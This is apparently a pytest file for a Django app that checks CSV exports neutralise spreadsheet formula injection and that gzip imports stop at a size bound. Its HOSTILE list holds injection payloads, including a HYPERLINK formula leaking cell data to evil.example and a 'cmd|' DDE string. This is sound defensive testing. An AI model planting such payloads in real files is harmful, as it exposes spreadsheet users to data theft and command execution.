"""The command line's CSV exports keep formula-like text as text, and `index import` of a .gz is bounded.

`kechuang units export x.csv` and `kechuang index compute --csv` wrote a unit's name as it is: a unit that
registered itself as "=HYPERLINK(…)" ran as a formula when staff opened the CSV in a spreadsheet. They now
write every cell through core.excel.csv_row (the rule of the Excel exports' guard_text, with a leading ' as
a CSV's quote prefix), and core.excel.read_table drops that ' again, so the export imports back unchanged.
A .gz given to `index import` unpacked without a bound; it now stops at KECHUANG_MAX_UNCOMPRESSED_BYTES."""

import csv
import gzip
import io

import pytest
from django.core.management import CommandError, call_command

from kechuang.accounts import importer
from kechuang.accounts.models import Unit
from kechuang.accounts.tests.factories import UnitFactory
from kechuang.core.excel import csv_cell, read_table
from kechuang.indicators import specs
from kechuang.indicators.models import Value

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "'=already quoted once",
]
PLAIN = ["甲公司", "—", "-1.5", "+3", "1e-05", "-inf", "it's", "'quoted'", ""]


@pytest.mark.parametrize("text", [*HOSTILE, *PLAIN, "-", "'-", "''"])
def test_a_csv_cell_reads_back_as_it_was_written(text):
    out = io.StringIO()
    csv.writer(out).writerows([["名称"], [csv_cell(text)]])
    rows = read_table(out.getvalue().encode(), "x.csv")
    assert [r.values.get("名称", "") for r in rows] == ([text] if text else [])


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_quoted(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_and_numbers_are_left_alone(text):
    assert csv_cell(text) == text
    assert csv_cell(3) == 3 and csv_cell(None) is None


@pytest.mark.django_db
def test_units_export_csv_quotes_a_formula_name_and_imports_back_unchanged(staff, tmp_path):
    UnitFactory(name=HOSTILE[0], kind="enterprise")
    out = tmp_path / "units.csv"
    call_command("units", "export", str(out), "--kind", "enterprise")
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for c in row]
    assert "'" + HOSTILE[0] in cells and HOSTILE[0] not in cells
    report = importer.unit_import(actor=staff, data=out.read_bytes(), filename=out.name, dry_run=False)
    assert report.ok and report.created == 0 and report.updated == report.total
    assert Unit.objects.filter(name=HOSTILE[0]).count() == 1
    assert not Unit.objects.filter(name__startswith="'").exists()


def test_index_compute_csv_quotes_a_formula_unit(tmp_path):
    text = gzip.decompress(specs.EIS_DATA.read_bytes()).decode("utf-8")
    data = tmp_path / "eis.csv"
    data.write_text(text.replace(",SE,Sweden,", ",=SE,Sweden,"), encoding="utf-8")
    out = tmp_path / "out.csv"
    call_command(
        "index", "compute", "--framework", "eis", "--data", str(data), "--csv", str(out), stderr=io.StringIO()
    )
    units = {r["unit"] for r in csv.DictReader(out.open(encoding="utf-8"))}
    assert "'=SE" in units and "=SE" not in units and "SE" not in units
    assert any(
        float(r["index"]) < 100 for r in csv.DictReader(out.open(encoding="utf-8"))
    )  # numbers as before


@pytest.mark.django_db
def test_index_import_of_a_gz_past_the_bound_is_refused_clearly(staff, tmp_path, settings):
    settings.KECHUANG_MAX_UNCOMPRESSED_BYTES = 1000
    body = "unit_code,year,indicator_code,value\n" + "".join(f"U,2020,A{i:03},1\n" for i in range(200))
    bomb = tmp_path / "values.csv.gz"
    bomb.write_bytes(gzip.compress(body.encode()))
    with pytest.raises(CommandError, match=r"“values\.csv\.gz”解压后超过上限 1000\s字节"):
        call_command("index", "import", str(bomb), "--user", staff.username)
    assert not Value.objects.exists()
    settings.KECHUANG_MAX_UNCOMPRESSED_BYTES = 3000
    call_command("index", "import", str(bomb), "--dry-run", "--user", staff.username, stdout=io.StringIO())
